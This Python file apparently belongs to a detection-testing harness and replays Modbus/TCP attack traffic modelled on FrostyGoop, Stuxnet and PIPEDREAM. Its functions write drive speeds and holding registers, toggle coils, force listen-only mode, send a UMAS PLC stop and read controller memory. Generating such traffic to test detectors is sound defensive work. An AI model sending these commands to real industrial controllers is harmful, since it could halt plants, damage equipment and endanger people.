"""Modbus/TCP: FrostyGoop's registers, smod's function and unit scans, Stuxnet's speeds, PIPEDREAM's UMAS."""

from __future__ import annotations

import contextlib
import struct
import time
from typing import TYPE_CHECKING, Final

from pymodbus import ModbusException
from pymodbus.client import ModbusTcpClient

from proving.clients.talk import Talk

if TYPE_CHECKING:
    from collections.abc import Callable

_PORT: Final = 502


def _adu(pdu: bytes, number: int = 1, unit: int = 1) -> bytes:
    return struct.pack("!HHHB", number, 0, len(pdu) + 1, unit) + pdu


def _each(to: str, pdus: list[bytes], pause_s: float = 0.1) -> None:
    with Talk(to, _PORT) as talk:
        for number, pdu in enumerate(pdus):
            talk.say(_adu(pdu, number + 1), pause_s)


def frosty_goop(to: str) -> None:
    """Read holding registers, then write what its task file says into several, read again."""
    client = ModbusTcpClient(to, port=_PORT)
    client.connect()
    with contextlib.suppress(ModbusException):
        client.read_holding_registers(0, count=4)
        for at, value in ((0, 100), (1, 0), (0, 60)):
            client.write_registers(at, [value])
            time.sleep(1.0)
            client.read_holding_registers(at, count=1)
    client.close()


def coil_toggled(to: str) -> None:
    """An output written on and off, over and over."""
    client = ModbusTcpClient(to, port=_PORT)
    client.connect()
    with contextlib.suppress(ModbusException):
        for turn in range(40):
            client.write_coil(0, turn % 2 == 0)
            time.sleep(0.1)
    client.close()


def stuxnet_speeds(to: str) -> None:
    """A drive told its highest speed, a crawl, and its usual one."""
    client = ModbusTcpClient(to, port=_PORT)
    client.connect()
    with contextlib.suppress(ModbusException):
        for speed in (9900, 200, 9900, 6400):
            client.write_register(0, speed)
            time.sleep(1.5)
    client.close()


def function_scan(to: str) -> None:
    """Every function from 1 to 127, with four octets behind it."""
    _each(to, [bytes((function, 0, 0, 0, 1)) for function in range(1, 128)], 0.02)


def function_scan_bare(to: str) -> None:
    """Every function from 1 to 100 in a frame of its own connection, with nothing behind it."""
    for function in range(1, 101):
        with Talk(to, _PORT) as talk:
            talk.say(_adu(bytes((function,))), 0.02)


def unit_scan(to: str) -> None:
    """One register asked of each unit."""
    with Talk(to, _PORT, 0.1) as talk:
        for unit in range(1, 120):
            talk.say(_adu(bytes.fromhex("0300000001"), unit, unit), 0.02)


def listen_only(to: str) -> None:
    """Diagnostics: force listen only mode."""
    _each(to, [bytes.fromhex("0800040000")])


def restart_communications(to: str) -> None:
    """Diagnostics: restart communications, its log cleared; twice."""
    _each(to, [bytes.fromhex("080001ff00"), bytes.fromhex("0800010000")], 1.0)


def umas_stop(to: str) -> None:
    """UMAS: identify, take the reservation, stop."""
    _each(
        to,
        [bytes.fromhex(t) for t in ("5a0002", "5a00010000", "5a0010250000000a", "5a00100000", "5a0141ff00")],
    )


def umas_memory(to: str) -> None:
    """UMAS: project and memory read block by block."""
    blocks = [bytes.fromhex("5a0020010000") + struct.pack("<HHHH", at * 246, 0, 246, 0) for at in range(12)]
    _each(to, [bytes.fromhex("5a0002"), bytes.fromhex("5a0003"), bytes.fromhex("5a0004"), *blocks])


def registers_filled(to: str) -> None:
    """All holding registers overwritten, ten at a time."""
    rows = [struct.pack("!BHHB10H", 16, at, 10, 20, *[65535] * 10) for at in range(0, 60, 10)]
    _each(to, rows, 0.3)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "frosty-goop": frosty_goop,
    "mb-coil-toggled": coil_toggled,
    "stuxnet-speeds": stuxnet_speeds,
    "mb-function-scan": function_scan,
    "mb-function-scan-bare": function_scan_bare,
    "mb-unit-scan": unit_scan,
    "mb-listen-only": listen_only,
    "mb-restart-comms": restart_communications,
    "umas-stop": umas_stop,
    "umas-memory": umas_memory,
    "mb-registers-filled": registers_filled,
}
